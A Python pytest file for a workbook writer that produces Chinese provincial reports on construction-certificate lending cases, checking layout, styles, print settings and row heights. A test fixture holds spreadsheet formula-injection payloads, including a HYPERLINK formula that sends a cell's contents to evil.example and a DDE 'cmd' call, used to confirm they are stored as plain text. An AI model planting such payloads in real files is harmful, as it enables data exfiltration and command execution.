"""The workbook writer, tested without the database: rows in, bytes out, read back with openpyxl."""

import datetime
import io
import zipfile
from xml.etree import ElementTree

from openpyxl import load_workbook
from openpyxl.utils import get_column_letter

from reports import layout
from reports.excel import (
    SheetData,
    Signatory,
    Statistics,
    annex1_workbook,
    consolidation_workbook,
)

ROW = {
    "name": "张三",
    "id_number": "01010519491231002X",
    "certificate_number": "00151000000001",
    "certificate_title": "一级建造师（建筑工程）",
    "registered_unit": "四川甲建设有限公司",
    "actual_unit": "成都乙公司",
    "unit_name": "四川甲建设有限公司",
    "unit_uscc": "91510000000000001X",
    "self_correction": "",
    "penalty": "撤销注册（川建罚〔2019〕12号）",
    "remarks": "补报（2019年2月）",
}


def sheet(rows=(ROW,)):
    return SheetData(
        agency_name="成都市锦江区住房和城乡建设局",
        rows=list(rows),
        preparer=Signatory("李四", "028-86651234"),
        signer=Signatory("王五", "13800000000"),
        submitted_on=datetime.date(2019, 4, 1),
    )


def read(data: bytes):
    return load_workbook(io.BytesIO(data))


def test_header_cells_and_merges_follow_the_official_layout():
    """Rows 1–5 carry 附件1, the title, 报送部门 and the two header rows with their merges."""
    ws = read(annex1_workbook(sheet())).active
    assert ws["A1"].value == "附件1"
    assert ws["A2"].value == layout.TITLE
    assert ws["A3"].value == "报送部门：成都市锦江区住房和城乡建设局（加盖单位印章）"
    assert [ws[f"{c}4"].value for c in "ABHJL"] == [
        "序号",
        "专业技术人员",
        "买卖租借证书单位",
        "处理结果",
        "备注",
    ]
    assert [ws.cell(row=5, column=c).value for c in range(2, 12)] == [
        "姓名",
        "身份证号",
        "证书编号",
        "执业资格类别",
        "注册单位",
        "实际工作单位",
        "单位名称",
        "统一社会信用代码",
        "自查自纠",
        "行政处罚",
    ]
    merges = {str(r) for r in ws.merged_cells.ranges}
    assert {"A2:L2", "A3:L3", "A4:A5", "B4:G4", "H4:I4", "J4:K4", "L4:L5"} <= merges
    assert ws["A2"].font.bold
    assert ws["A2"].font.size == 16
    assert ws["B6"].font.name in ("仿宋", "宋体")
    assert 10 <= ws["B6"].font.size <= 11
    assert ws["B6"].border.left.style == "thin"


def test_data_rows_keep_identifiers_as_text():
    """ID numbers, certificate numbers and codes are strings formatted as text."""
    ws = read(annex1_workbook(sheet())).active
    assert ws["A6"].value == 1
    assert ws["C6"].value == "01010519491231002X"
    assert ws["C6"].data_type == "s"
    assert ws["C6"].number_format == "@"
    assert ws["D6"].value == "00151000000001"
    assert ws["I6"].number_format == "@"
    assert ws["K6"].value == "撤销注册（川建罚〔2019〕12号）"
    assert ws["L6"].value == "补报（2019年2月）"


def test_footer_names_preparer_signer_with_phones_and_date_in_merged_cells():
    """The footer below the rows: 填表人 A–D, 负责人 E–G (each with 联系电话), 申报时间 H–L."""
    ws = read(annex1_workbook(sheet([ROW, ROW]))).active
    assert ws["A8"].value == "填表人：李四  联系电话：028-86651234"
    assert ws["E8"].value == "负责人：王五  联系电话：13800000000"
    assert ws["H8"].value == "申报时间：2019年4月1日"
    merges = {str(r) for r in ws.merged_cells.ranges}
    assert {"A8:D8", "E8:G8", "H8:L8"} <= merges


def test_print_settings_are_a4_landscape_fit_to_width_with_repeated_headers():
    """Printing: A4 landscape, one page wide, header rows 4–5 on every page."""
    ws = read(annex1_workbook(sheet())).active
    assert ws.page_setup.orientation == "landscape"
    assert str(ws.page_setup.paperSize) == "9"
    assert ws.page_setup.fitToWidth == 1
    assert ws.page_setup.fitToHeight == 0
    assert ws.sheet_properties.pageSetUpPr.fitToPage
    assert ws.print_title_rows == "$4:$5"


def test_zero_report_says_nothing_was_handled():
    """An empty month is a valid sheet reading 本月无查处情况."""
    ws = read(annex1_workbook(sheet(rows=()))).active
    assert ws["A6"].value == "本月无查处情况"
    assert "A6:L6" in {str(r) for r in ws.merged_cells.ranges}
    assert ws["A7"].value == "填表人：李四  联系电话：028-86651234"


def test_consolidation_has_a_sheet_per_department_a_summary_and_statistics():
    """The consolidation workbook: department sheets, then 汇总 and 统计."""
    departments = [
        SheetData(agency_name=name, rows=[ROW], sheet_title=short)
        for short, name in (("住建", "四川省住房和城乡建设厅"), ("交通", "四川省交通运输厅"))
    ]
    summary = SheetData(agency_name="四川省住房和城乡建设厅", rows=[ROW, ROW], sheet_title="汇总")
    stats = Statistics(
        by_department=[
            {
                "department": "住建",
                "category": "一级建造师（建筑工程）",
                "measure": "撤销注册",
                "count": 1,
            },
        ],
        by_prefecture=[{"prefecture": "成都市", "count": 2}],
    )
    wb = read(consolidation_workbook(departments=departments, summary=summary, stats=stats))
    assert wb.sheetnames == ["住建", "交通", "汇总", "统计"]
    assert wb["交通"]["A3"].value == "报送部门：四川省交通运输厅（加盖单位印章）"
    assert wb["汇总"]["A7"].value == 2
    values = [c.value for row in wb["统计"].iter_rows() for c in row]
    assert "一级建造师（建筑工程）" in values
    assert "成都市" in values


HOSTILE = {
    "name": "=1+1",
    "id_number": "-510104",
    "certificate_number": "+86",
    "certificate_title": "@SUM(A1)",
    "registered_unit": '=HYPERLINK("http://evil.example/?x="&C6,"点击")',
    "actual_unit": "\t=2+3",
    "unit_name": "\r=cmd|' /C calc'!A0",
    "unit_uscc": "=91510000",
    "self_correction": "-2+3",
    "penalty": "=2+3",
    "remarks": "+补报",
}


def assert_cells_are_text(cells, expected):
    for cell, value in zip(cells, expected, strict=True):
        assert cell.data_type == "s", (cell.coordinate, cell.value)
        # The text is untouched. (Serialised through lxml, as openpyxl does when it is installed,
        # a CR is written as &#13; and read back as CR; without lxml XML turned it into LF.)
        assert cell.value == value


def test_texts_that_look_like_formulas_stay_text_in_every_sheet():
    """Values starting with = + - @ tab or CR are stored as strings, unchanged, never formulas."""
    keys = [column.key for column in layout.COLUMNS][1:]
    expected = [HOSTILE[key] for key in keys]
    ws = read(annex1_workbook(sheet([HOSTILE]))).active
    assert_cells_are_text(ws[6][1:], expected)

    departments = [SheetData(agency_name="=部门", rows=[HOSTILE], sheet_title="住建")]
    summary = SheetData(agency_name="四川省住房和城乡建设厅", rows=[HOSTILE], sheet_title="汇总")
    stats = Statistics(
        by_department=[
            {"department": "=住建", "category": "@类别", "measure": "+撤销注册", "count": 1}
        ],
        by_prefecture=[{"prefecture": "-成都市", "count": 1}],
    )
    wb = read(consolidation_workbook(departments=departments, summary=summary, stats=stats))
    for name in ("住建", "汇总"):
        assert_cells_are_text(wb[name][6][1:], expected)
    assert wb["住建"]["A3"].value == "报送部门：=部门（加盖单位印章）"
    values = {(c.value, c.data_type) for row in wb["统计"].iter_rows() for c in row if c.value}
    for text in ("=住建", "@类别", "+撤销注册", "-成都市"):
        assert (text, "s") in values
    assert not any(
        c.data_type == "f" for ws in wb.worksheets for row in ws.iter_rows() for c in row
    )


XLSX = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"
RELATION = "{http://schemas.openxmlformats.org/officeDocument/2006/relationships}id"


def xml(archive: zipfile.ZipFile, name: str) -> ElementTree.Element:
    return ElementTree.fromstring(archive.read(name))  # noqa: S314 — the writer's own output


def written_styles(data: bytes) -> dict[str, dict[str, tuple]]:
    """Return each stored cell's style per sheet, read from the file's XML as Excel reads it."""
    # Not through openpyxl: on loading, it drops the styles of merged cells but the anchor, and
    # Excel draws a merged range's frame from every cell's own border.
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        styles = xml(archive, "xl/styles.xml")
        book = xml(archive, "xl/workbook.xml")
        relations = xml(archive, "xl/_rels/workbook.xml.rels")
        targets = {r.get("Id"): r.get("Target").removeprefix("/xl/") for r in relations}
        fonts = [
            (
                font.find(f"{XLSX}name").get("val"),
                float(font.find(f"{XLSX}sz").get("val")),
                font.find(f"{XLSX}b") is not None,
            )
            for font in styles.find(f"{XLSX}fonts")
        ]
        borders = [
            tuple(
                None if border.find(XLSX + side) is None else border.find(XLSX + side).get("style")
                for side in ("left", "right", "top", "bottom")
            )
            for border in styles.find(f"{XLSX}borders")
        ]
        xfs = []
        for xf in styles.find(f"{XLSX}cellXfs"):
            align = xf.find(f"{XLSX}alignment")
            xfs.append(
                (
                    *fonts[int(xf.get("fontId"))],
                    borders[int(xf.get("borderId"))],
                    *(
                        (None, None, None)
                        if align is None
                        else (align.get("horizontal"), align.get("vertical"), align.get("wrapText"))
                    ),
                    xf.get("numFmtId"),
                    xf.get("quotePrefix") == "1",
                )
            )
        sheets = {}
        for entry in book.find(f"{XLSX}sheets"):
            root = xml(archive, "xl/" + targets[entry.get(RELATION)])
            sheets[entry.get("name")] = {
                cell.get("r"): xfs[int(cell.get("s", 0))] for cell in root.iter(f"{XLSX}c")
            }
        return sheets


# Every stored cell's style as the writer wrote it before it used named styles: font, size,
# bold, borders (left, right, top, bottom), horizontal, vertical, wrap, number format (49 is "@",
# text) and quotePrefix. An upper-case letter is its lower-case kind with quotePrefix set.
NO_SIDES = (None, None, None, None)
THIN = ("thin", "thin", "thin", "thin")
CENTRED = ("center", "center", "1")
LEFT = ("left", "center", "1")
PLAIN = (None, None, None)
BODY = ("仿宋", 10.0, False, THIN)
WRITTEN_KINDS = {
    "1": ("宋体", 11.0, False, NO_SIDES, *PLAIN, "0", False),  # 附件1
    "#": ("宋体", 16.0, True, NO_SIDES, *CENTRED, "0", False),  # the title
    "i": ("宋体", 11.0, False, NO_SIDES, *LEFT, "0", False),  # 报送部门, the footer
    "h": ("宋体", 11.0, True, THIN, *CENTRED, "0", False),  # header
    "g": ("宋体", 11.0, True, NO_SIDES, *PLAIN, "0", False),  # a 统计 heading
    "c": (*BODY, *CENTRED, "0", False),
    "C": (*BODY, *CENTRED, "0", True),
    "b": (*BODY, *LEFT, "0", False),
    "B": (*BODY, *LEFT, "0", True),
    "t": (*BODY, *LEFT, "49", False),
    "T": (*BODY, *LEFT, "49", True),
    "s": (*BODY, *PLAIN, "0", False),  # a 统计 table cell
    "S": (*BODY, *PLAIN, "0", True),
    "x": ("Calibri", 11.0, False, THIN, *PLAIN, "0", False),  # frame of a merged zero report
}
# One string per row from row 1, a letter per column from A; a blank is a cell not stored.
WRITTEN_LAYOUT = {
    "住建": [
        "1",
        "#",
        "i",
        "hhhhhhhhhhhh",
        "hhhhhhhhhhhh",
        "ccttbbbbtbbb",
        "cCTTBBBBTBBB",
        "ccttbbbbtbbb",
        "i   i  i",
    ],
    "汇总": ["1", "#", "i", "hhhhhhhhhhhh", "hhhhhhhhhhhh", "cxxxxxxxxxxx", "i   i  i"],
    "统计": ["g", "hhhh", "Ssss", "", "g", "hh", "ss"],
}


def test_every_cell_keeps_the_style_it_was_written_with_before_named_styles():
    """Fonts, borders, alignments, text formats and quotePrefix stay as before, cell by cell."""
    rows = [ROW, HOSTILE, {**ROW, "id_number": None, "remarks": None}]
    departments = [SheetData(agency_name="成都市住房和城乡建设局", rows=rows, sheet_title="住建")]
    summary = SheetData(agency_name="四川省住房和城乡建设厅", rows=[], sheet_title="汇总")
    stats = Statistics(
        by_department=[{"department": "=住建", "category": "c", "measure": "m", "count": 1}],
        by_prefecture=[{"prefecture": "成都市", "count": 2}],
    )
    data = consolidation_workbook(departments=departments, summary=summary, stats=stats)
    for name, cells in written_styles(data).items():
        stored = {}
        for row, kinds in enumerate(WRITTEN_LAYOUT[name], start=1):
            for column, kind in enumerate(kinds, start=1):
                if kind != " ":
                    stored[f"{get_column_letter(column)}{row}"] = WRITTEN_KINDS[kind]
        assert cells == stored, name


# -- the printed form reads whole: every data cell wraps and each row is as high as it needs

LONG_UNIT = (
    "四川省成都市锦江区某某建筑工程劳务分包有限责任公司第三分公司"
    "（原四川某某建设集团有限公司成都分公司）项目部四川省成都市锦江区"
)[:60]
LONG_REMARK = (
    "补报（2019年2月）；经核查，该人员注册单位与社会保险缴费单位不一致，本人书面说明系原单位改制后"
    "未及时变更注册，已责令其限期办理变更或注销手续，并对注册单位予以通报批评，记入不良行为记录。"
    * 3
)[:200]
LONG_ROWS = [
    {**ROW, "remarks": LONG_REMARK},
    {**ROW, "registered_unit": LONG_UNIT, "unit_name": LONG_UNIT, "name": "阿依古丽·买买提"},
    {**ROW, "penalty": "", "remarks": "更正（2019年1月）：\n处理决定已撤销"},
    {**ROW, "penalty": ROW["penalty"] * 6, "actual_unit": LONG_UNIT},
]


def units(char: str) -> int:
    """A CJK or full-width character takes two character units, anything else one."""
    return 2 if ord(char) > 0x2E7F else 1


def wrapped_lines(text: str, width: float) -> int:
    """Wrap ``text`` greedily, character by character, in a column ``width`` units wide."""
    capacity, lines = width - 1, 0  # a unit of the column goes to the cell's padding
    for paragraph in str(text).split("\n"):
        lines, used = lines + 1, 0
        for char in paragraph:
            if used + units(char) > capacity:
                lines, used = lines + 1, 0
            used += units(char)
    return lines


def height(ws, row: int) -> float:
    """Return a row's printed height: its own, else the sheet's default (a custom height)."""
    assert ws.sheet_format.customHeight
    return ws.row_dimensions[row].height or ws.sheet_format.defaultRowHeight


def data_rows(ws):
    last = layout.FIRST_DATA_ROW + len(LONG_ROWS)
    return ws.iter_rows(min_row=layout.FIRST_DATA_ROW, max_row=last - 1)


def test_every_data_cell_wraps_its_text():
    """Every cell of every data row, identifiers included, wraps within its column."""
    ws = read(annex1_workbook(sheet(LONG_ROWS))).active
    for row in data_rows(ws):
        for cell in row:
            assert cell.alignment.wrap_text, cell.coordinate


def test_each_rows_height_covers_its_longest_cells_wrapped_lines():
    """A row is at least as high as the most lines any of its cells wraps to at its column's
    width (CJK ≈ 2 units, ASCII ≈ 1, explicit line breaks), and not much higher."""
    short = {**ROW, "certificate_title": "一级建造师", "penalty": "撤销注册"}
    ws = read(annex1_workbook(sheet([*LONG_ROWS, short]))).active
    for row in data_rows(ws):
        lines = max(
            wrapped_lines(cell.value, ws.column_dimensions[cell.column_letter].width)
            for cell in row
            if cell.value not in (None, "")
        )
        shown = height(ws, row[0].row)
        assert shown >= lines * layout.BODY_LINE_HEIGHT, (row[0].row, lines, shown)
        assert shown <= (lines + 2) * layout.BODY_LINE_HEIGHT + layout.ROW_PADDING
    one_line = height(ws, layout.FIRST_DATA_ROW + len(LONG_ROWS))
    assert one_line == layout.BODY_LINE_HEIGHT + layout.ROW_PADDING
    for header in (layout.ROW_H1, layout.ROW_H2):
        assert height(ws, header) >= layout.HEADER_FONT_SIZE * 1.45


def test_a_200_character_remark_and_a_60_character_unit_name_fit_their_rows():
    """The 200-character 备注 and the 60-character unit name are shown whole, within Excel's
    highest row, and the 18-character identifiers stay on one line."""
    ws = read(annex1_workbook(sheet(LONG_ROWS))).active
    remark_row, unit_row = layout.FIRST_DATA_ROW, layout.FIRST_DATA_ROW + 1
    assert len(ws[f"L{remark_row}"].value) == 200
    assert len(ws[f"F{unit_row}"].value) == 60
    for coordinate in (f"L{remark_row}", f"F{unit_row}", f"H{unit_row}"):
        cell = ws[coordinate]
        lines = wrapped_lines(cell.value, ws.column_dimensions[cell.column_letter].width)
        assert lines > 3
        assert height(ws, cell.row) >= lines * layout.BODY_LINE_HEIGHT
        assert height(ws, cell.row) <= 409
    for letter in ("C", "I"):  # 身份证号, 统一社会信用代码
        assert wrapped_lines("91510104MA61XXXX0X", ws.column_dimensions[letter].width) == 1


def test_line_breaks_count_and_overlong_rows_stop_at_excels_limit():
    """An explicit line break adds a line; a row never exceeds the 409 points Excel stores."""
    from reports.excel import line_count, row_height

    assert line_count("更正（2019年1月）：\n处理决定已撤销", 22) == 2
    assert line_count("a" * 40, 20) == 2
    assert line_count("四" * 20, 20) == 2
    assert row_height(line_count("四" * 2000, 16)) == 409
    assert row_height(1) == layout.BODY_LINE_HEIGHT + layout.ROW_PADDING


# -- a large consolidation streams: rows may come from a generator, written as they come


def test_streamed_rows_past_the_height_sample_keep_their_own_heights():
    """Rows from a generator are all written in order; a wrapping row after the first rows
    (which set the sheet's default height) still gets the height its text needs."""
    from reports.excel import HEIGHT_SAMPLE, consolidation_write

    count = HEIGHT_SAMPLE + 5
    long_at = HEIGHT_SAMPLE + 3

    def rows():
        for n in range(1, count + 1):
            yield {**ROW, "remarks": LONG_REMARK} if n == long_at else ROW

    summary = SheetData(agency_name="四川省住房和城乡建设厅", rows=rows(), sheet_title="汇总")
    told = []
    buffer = io.BytesIO()
    written = consolidation_write(
        buffer, departments=[], summary=summary, stats=Statistics(), on_row=told.append
    )
    assert written == count
    assert told[-1] == count
    ws = read(buffer.getvalue())["汇总"]
    last = layout.FIRST_DATA_ROW + count - 1
    assert ws[f"A{last}"].value == count
    assert ws.row_dimensions[layout.FIRST_DATA_ROW].height is None  # the sheet's default
    long_row = layout.FIRST_DATA_ROW + long_at - 1
    lines = wrapped_lines(LONG_REMARK, ws.column_dimensions["L"].width)
    assert height(ws, long_row) >= lines * layout.BODY_LINE_HEIGHT
    assert height(ws, long_row) > ws.sheet_format.defaultRowHeight
    assert f"A{last + 1}:D{last + 1}" in {str(r) for r in ws.merged_cells.ranges}
